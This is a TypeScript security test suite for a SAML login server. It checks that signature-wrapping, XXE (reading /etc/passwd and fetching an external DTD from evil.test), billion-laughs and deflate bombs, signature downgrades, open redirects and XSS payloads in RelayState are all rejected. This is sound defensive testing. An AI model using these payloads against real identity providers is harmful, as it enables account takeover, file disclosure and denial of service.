/** What somebody between an application and this server, or in place of one of them, might try. */
import assert from 'node:assert/strict';
import { createPrivateKey } from 'node:crypto';
import { after, before, test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { asPage, Browser, type Page } from '../../../test/browser.ts';
import { addPerson } from '../../../test/fixtures.ts';
import {
  ACS,
  addSamlClient,
  arrive,
  EMAIL,
  ENTITY,
  keyPair,
  logIn,
  posted,
  SLO,
  samlServer,
  serviceProvider,
  textOf,
} from '../../../test/saml-house.ts';
import { wrap } from '../../../test/saml-wrapping.ts';
import type { TestServer } from '../../../test/server.ts';
import { SAML20 } from '../../assertions/index.ts';
import type { SigningKeyMaterial } from '../../platform/crypto/index.ts';
import { markup, signEnveloped } from '../../platform/xml/index.ts';
import { sessionsOf } from '../../resources/sessions/index.ts';
import { transactionsOf } from '../../transactions/index.ts';
import { PROTOCOL } from './saml.ts';

let server: TestServer;
let key: SigningKeyMaterial;

before(async () => {
  server = await samlServer();
  await addPerson(server.ctx, EMAIL);
  key = await keyPair(server.ctx);
});
after(() => server.close());

const now = () => new Date(server.clock.now()).toISOString();
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** A request, with `inside` in it. */
function authnRequest(id: string, inside = '', attributes = `AssertionConsumerServiceURL="${ACS}"`): string {
  const names = `xmlns:samlp="${PROTOCOL}" xmlns:saml="${SAML20}"`;
  const head = `${names} ID="${id}" Version="2.0" IssueInstant="${now()}" ${attributes}`;
  return `<samlp:AuthnRequest ${head}><saml:Issuer>${ENTITY}</saml:Issuer>${inside}</samlp:AuthnRequest>`;
}

async function sign(document: string, by: SigningKeyMaterial = key): Promise<string> {
  const signature = {
    privateKey: createPrivateKey(by.privateKeyPem),
    certificate: by.cert,
    signatureAlgorithm: 'rsa-sha256',
    digestAlgorithm: 'sha256',
  } as const;
  return String(await signEnveloped(markup(document), signature, { id: 'ID', after: 'Issuer' }));
}

async function post(path: string, form: Record<string, string>): Promise<Page> {
  const { status, text: html, headers } = await server.post(path, { form });
  return { status, html, headers, path, url: path, fields: {} };
}

const postRequest = (clientId: string, xml: string) => post(`/samlp/${clientId}`, { SAMLRequest: base64(xml) });

test('a request that was wrapped around a signed one begins nothing', async () => {
  const clientId = await addSamlClient(server.ctx, { signingCert: key.cert });
  const signed = await sign(authnRequest('_1'));
  const evil = (id: string, inside: string) => authnRequest(id, inside, 'ForceAuthn="true"');
  const before = await transactionsOf(server.ctx).count();
  for (const [name, attack] of wrap({ signed, evil, id: '_1' })) {
    const page = await postRequest(clientId, attack);
    assert.equal(page.status, 400, name);
    assert.match(textOf(page), /Signature check errors|MUST be signed/, name);
  }
  assert.equal(await transactionsOf(server.ctx).count(), before);
  assert.equal((await postRequest(clientId, signed)).status, 302);
  const forged = await postRequest(clientId, await sign(authnRequest('_2'), await keyPair(server.ctx)));
  assert.match(textOf(forged), /signature is not valid/);
});

test('a logout that was wrapped around a signed one ends nothing', async () => {
  const settings = { signingCert: key.cert, logout: { callback: SLO } };
  const clientId = await addSamlClient(server.ctx, settings);
  const sp = await serviceProvider(server, clientId, { privateKey: key.privateKeyPem, signatureAlgorithm: 'sha256' });
  const { profile } = await logIn(server, sp);
  const logoutRequest = (id: string, inside = '', index = profile.sessionIndex, name = profile.nameID) =>
    `<samlp:LogoutRequest xmlns:samlp="${PROTOCOL}" xmlns:saml="${SAML20}" ID="${id}" Version="2.0" IssueInstant="${now()}">` +
    `<saml:Issuer>${ENTITY}</saml:Issuer>${inside}<saml:NameID>${name}</saml:NameID>` +
    `<samlp:SessionIndex>${index}</samlp:SessionIndex></samlp:LogoutRequest>`;
  const signed = await sign(logoutRequest('_1', '', '_other'));
  const before = await sessionsOf(server.ctx).count();
  const attacks = wrap({ signed, evil: logoutRequest, id: '_1' });
  for (const [name, attack] of attacks) {
    const page = await post(`/samlp/${clientId}/logout`, { SAMLRequest: base64(attack) });
    assert.equal(page.status, 400, name);
  }
  assert.equal(await sessionsOf(server.ctx).count(), before);
  const cut = logoutRequest('_2', '', profile.sessionIndex, `${profile.nameID}<!-- -->.evil`);
  await post(`/samlp/${clientId}/logout`, { SAMLRequest: base64(await sign(cut)) });
  assert.equal(await sessionsOf(server.ctx).count(), before);
  const whole = logoutRequest('_3', '', profile.sessionIndex, profile.nameID.replace('|', '<!-- -->|'));
  await post(`/samlp/${clientId}/logout`, { SAMLRequest: base64(await sign(whole)) });
  assert.equal(await sessionsOf(server.ctx).count(), before - 1);
});

test('documents that reach out, blow up or are none are refused', async () => {
  const clientId = await addSamlClient(server.ctx);
  const entity = (declaration: string) => `<!DOCTYPE x [${declaration}]>${authnRequest('_1', '&e;')}`;
  const laughs = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY ${level === 8 ? 'e' : `e${level}`} "${level === 0 ? 'ha' : `&e${level - 1};`.repeat(10)}">`,
  );
  const documents = [
    entity('<!ENTITY e SYSTEM "file:///etc/passwd">'),
    entity('<!ENTITY % e SYSTEM "http://evil.test/x.dtd"> %e;'),
    entity(laughs.join('')),
    authnRequest('_1', '<a>'.repeat(5000) + '</a>'.repeat(5000)),
    authnRequest('_1').replace('</samlp:AuthnRequest>', ''),
    authnRequest('_1') + authnRequest('_2'),
    '<samlp:Response/>',
    'nonsense',
    '',
  ];
  for (const document of documents) {
    const form = await postRequest(clientId, document || ' ');
    assert.equal(form.status, 400, document.slice(0, 80));
    const query = new URLSearchParams({ SAMLRequest: deflateRawSync(document || ' ').toString('base64') });
    assert.equal((await server.get(`/samlp/${clientId}?${query}`)).status, 400, document.slice(0, 80));
  }
  const bomb = deflateRawSync(Buffer.alloc(30_000_000, ' ')).toString('base64');
  assert.equal((await post(`/samlp/${clientId}`, { SAMLRequest: bomb })).status, 400);
});

test('a signature in the query covers all that is read, by algorithms that bind', async () => {
  const clientId = await addSamlClient(server.ctx, { signingCert: key.cert });
  const options = { privateKey: key.privateKeyPem, signatureAlgorithm: 'sha256' as const };
  const sp = await serviceProvider(server, clientId, options);
  const address = new URL(await sp.getAuthorizeUrlAsync('', undefined, {}));
  const path = address.pathname + address.search;
  const other = encodeURIComponent(deflateRawSync(authnRequest('_9')).toString('base64'));
  const attacks = [
    `${path}&RelayState=added`,
    `${path}&Relay%53tate=spelt`,
    `${path}&SAMLRequest=${other}`,
    `${path}&SAML%52equest=${other}`,
    path.replace(/SAMLRequest=[^&]*/, `SAMLRequest=${other}`),
    path.replace(/SigAlg=[^&]*/, 'SigAlg=none'),
    path.replace(/SigAlg=[^&]*/, `SigAlg=${encodeURIComponent('http://www.w3.org/2000/09/xmldsig#hmac-sha1')}`),
    path.replace(/SigAlg=[^&]*/, `SigAlg=${encodeURIComponent('http://www.w3.org/2000/09/xmldsig#rsa-sha1')}`),
    path.replace(/&SigAlg=[^&]*/, ''),
    path.replace(/Signature=[^&]*/, 'Signature='),
    path.replace(/&Signature=[^&]*/, ''),
  ];
  for (const attack of attacks) assert.equal((await server.get(attack)).status, 400, attack);
  assert.equal((await server.get(path)).status, 302);
});

test('answers go to addresses of the client only', async () => {
  const clientId = await addSamlClient(server.ctx);
  const addresses = [
    'https://evil.test/acs',
    `${ACS}/more`,
    `${ACS}@evil.test`,
    'javascript:alert(1)',
    '//sp.test/acs',
  ];
  for (const address of addresses) {
    const xml = authnRequest('_1', '', `AssertionConsumerServiceURL="${address}"`);
    const page = await postRequest(clientId, xml);
    assert.equal(page.status, 403, address);
    assert.match(textOf(page), /Callback URL mismatch/);
    assert.equal(page.headers.location, undefined);
  }
});

test('a request for somewhere else is not answered here', async () => {
  const [clientId, other] = [await addSamlClient(server.ctx), await addSamlClient(server.ctx)];
  for (const path of [`/samlp/${other}`, '/elsewhere']) {
    const page = await postRequest(clientId, authnRequest('_1', '', `Destination="${server.url}${path}"`));
    assert.equal(page.status, 400);
    assert.match(textOf(page), /The Destination of the SAML message is not this endpoint/);
  }
  const right = authnRequest('_1', '', `Destination="${server.url}/samlp/${clientId}"`);
  assert.equal((await postRequest(clientId, right)).status, 302);
});

test('names are read whole, whatever stands between their letters', async () => {
  const clientId = await addSamlClient(server.ctx);
  const subject = '<saml:Subject><saml:NameID>ada@example.test<!-- -->.evil.test</saml:NameID></saml:Subject>';
  const request = authnRequest('_1', subject);
  const query = new URLSearchParams({ SAMLRequest: base64(request) });
  const page = await new Browser(server).openPage(`/samlp/${clientId}?${query}`);
  assert.equal(page.fields.username, 'ada@example.test.evil.test');
});

test('RelayState comes back as it was, and does nothing on the way', async () => {
  const clientId = await addSamlClient(server.ctx);
  for (const relayState of [
    '"><script>alert(1)</script>',
    "' onload='x",
    'javascript:alert(1)',
    'https://evil.test/',
  ]) {
    const query = new URLSearchParams({ RelayState: relayState });
    const browser = new Browser(server);
    const answer = await arrive(browser, `/samlp/${clientId}?${query}`);
    assert.equal(answer.fields.RelayState, relayState);
    assert.equal(answer.to, ACS);
    const page = await browser.openPage(`/samlp/${clientId}?${query}`);
    assert.equal(page.html.includes('<script>alert'), false);
    assert.match(page.headers['content-security-policy'] ?? '', /script-src 'nonce-/);
    assert.equal(posted(page).fields.RelayState, relayState);
  }
});

test('what an application asks for in vain is told to it in SAML', async () => {
  const clientId = await addSamlClient(server.ctx);
  const format = 'urn:oasis:names:tc:SAML:2.0:nameid-format:encrypted';
  const refused: [string, RegExp][] = [
    [authnRequest('_1', `<samlp:NameIDPolicy Format="${format}"/>`), /:InvalidNameIDPolicy"/],
    [authnRequest('_1', '', 'ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"'), /:Requester"/],
  ];
  for (const [xml, status] of refused) {
    const query = new URLSearchParams({ SAMLRequest: base64(xml) });
    const answer = posted(asPage(await new Browser(server).open(`/samlp/${clientId}?${query}`)));
    assert.equal(answer.to, ACS);
    assert.match(answer.xml, status);
    assert.match(answer.xml, /InResponseTo="_1"/);
  }
});
